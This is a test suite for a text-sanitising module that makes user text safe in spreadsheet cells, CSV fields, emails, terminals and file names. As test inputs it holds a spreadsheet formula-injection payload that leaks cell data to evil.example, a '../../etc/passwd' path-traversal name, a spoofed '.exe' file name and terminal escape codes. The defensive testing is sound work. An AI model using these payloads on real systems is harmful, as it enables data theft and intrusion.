"""bot.office.cells: a person's text in xlsx cells, csv fields and file names."""
from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from email.message import EmailMessage

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from bot.office import cells

# every code point, lone surrogates too (hypothesis leaves them out unless told)
ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60)
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def saved(rows: list[list]) -> tuple[bytes, list[list]]:
    """The workbook's bytes and its cells (value, data type, quote prefix) read back."""
    book = Workbook()
    for row in rows:
        cells.append(book.active, row)
    out = io.BytesIO()
    book.save(out)
    back = load_workbook(io.BytesIO(out.getvalue()))
    read = [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in back.active.iter_rows()]
    back.close()
    return out.getvalue(), read


@pytest.mark.parametrize("code", range(0x20))
def test_each_control_character_is_shown_as_its_sign_or_as_a_line_break(code):
    _, [[(value, kind, _)]] = saved([[f"前{chr(code)}后"]])
    middle = {0x09: "\t", 0x0a: "\n", 0x0b: "\n", 0x0c: "\n", 0x0d: "\n"}.get(code,
                                                                           chr(0x2400 + code))
    assert value == f"前{middle}后" and kind == "s"


def test_what_xml_can_not_hold_becomes_the_replacement_character():
    _, [[(a, _, _), (b, _, _), (c, _, _)]] = saved([["前\ufffe后", "前\uffff后", "前\udc80后"]])
    assert a == b == c == "前\ufffd后"


@pytest.mark.parametrize("start", [*STARTS, "#"])
def test_a_text_that_starts_like_a_formula_stays_text(start):
    text = f'{start}HYPERLINK("http://evil.example/?d="&A1,"点我")' if start != "#" else "#N/A"
    data, [[(value, kind, quoted)]] = saved([[text]])
    assert kind == "s" and value == text.replace("\r", "\n")
    assert quoted == (start in STARTS and start != "\r")   # a CR became a line break
    with zipfile.ZipFile(io.BytesIO(data)) as raw:
        assert not re.search(rb"<(\w+:)?f[ >]", raw.read("xl/worksheets/sheet1.xml"))


def test_numbers_stay_numbers_and_other_text_is_untouched():
    text = "从右到左\u202egpj.exe 😀👨‍👩‍👧 零宽\u200b\u200d\ufeff"
    _, [[(n, n_kind, _), (t, t_kind, _)]] = saved([[-0.5, text]])
    assert (n, n_kind) == (-0.5, "n") and (t, t_kind) == (text, "s")


def test_a_cell_is_cut_at_excels_limit_without_splitting_a_character():
    text = "😀" * 20000 + "尾"                     # 40,001 UTF-16 code units
    cut = cells.xlsx_text(text)
    assert len(cut.encode("utf-16-le")) // 2 <= cells.EXCEL_CELL_CHARS
    assert cut.endswith("😀…") and cut.startswith("😀")
    assert cells.xlsx_text("长" * 32767) == "长" * 32767
    _, [[(value, _, _)]] = saved([["长" * 100_000]])
    assert len(value) == cells.EXCEL_CELL_CHARS and value.endswith("…")


@pytest.mark.parametrize("start", STARTS)
def test_a_csv_field_that_starts_like_a_formula_gets_a_quote(start):
    assert cells.csv_field(f"{start}1+2") == f"'{start}1+2"


def test_csv_leaves_numbers_alone_and_quotes_every_field():
    out = io.StringIO()
    cells.write_csv(out, [["单位", "得分"], ["=1+2", "-0.5"], ["+1", 3], ["a,b\n\"c\"", None]])
    text = out.getvalue()
    assert text.splitlines()[0] == '"单位","得分"'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["单位", "得分"], ["'=1+2", "-0.5"], ["+1", "3"], ['a,b\n"c"', ""]]


def test_a_printable_text_always_goes_into_a_mail():
    msg = EmailMessage()
    msg["Subject"] = cells.one_line("县\n妇联\x07\udc80")
    msg.set_content(cells.printable("前\x00\x07\x0b后\udc80"))
    assert msg["Subject"] == "县 妇联␇\ufffd"
    assert msg.get_content() == "前␀␇\n后\ufffd\n"


def test_a_terminal_line_holds_no_control_character():
    line = cells.terminal_text("清屏\x1b[2J\t制表\x7f\x9b换\n行")
    assert line == "清屏␛[2J␉制表␡\ufffd换 行"


@pytest.mark.parametrize("name, safe", [
    ("../../etc/passwd", "_.._etc_passwd"), ("..", "_"), (".", "_"), ("", "_"),
    ("CON", "_CON"), ("nul.txt", "_nul.txt"), ("a:b*c?.docx", "a_b_c_.docx"),
    ("小结\u202egpj.exe", "小结_gpj.exe"), ("小结\x00\x07.txt", "小结__.txt"),
    (" 小结 . ", "小结"), ("表情😀.pdf", "表情😀.pdf")])
def test_file_names_are_safe_to_extract_anywhere(name, safe):
    assert cells.file_name(name) == safe


def test_a_long_file_name_is_cut_and_keeps_its_extension():
    name = cells.file_name("长" * 100_000 + ".docx")
    assert name.endswith("长.docx") and len(name.encode()) <= cells.NAME_BYTES


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_any_text_makes_a_safe_file_name(text):
    name = cells.file_name(text)
    assert name not in ("", ".", "..") and name == name.strip(" .")
    assert not set(name) & set('\\/:*?"<>|')
    assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for ch in name)
    assert len(name.encode("utf-8")) <= cells.NAME_BYTES


@settings(max_examples=100, deadline=None)
@given(st.lists(ANY_TEXT, min_size=1, max_size=5))
def test_any_text_opens_in_xlsx_as_text(texts):
    _, [row] = saved([texts])
    for text, (value, kind, _) in zip(texts, row):
        assert (value or "") == cells.xlsx_text(text) and kind not in ("f", "e")


@settings(max_examples=200, deadline=None)
@given(st.lists(ANY_TEXT, min_size=1, max_size=5))
def test_any_text_comes_back_from_csv_as_written(texts):
    out = io.StringIO()
    cells.write_csv(out, [texts])
    out.getvalue().encode("utf-8")
    [row] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == [cells.csv_field(t) for t in texts]
    assert all(not f.startswith(tuple(STARTS)) or re.fullmatch(r"[+-]?\d+(\.\d+)?", f)
               for f in row)
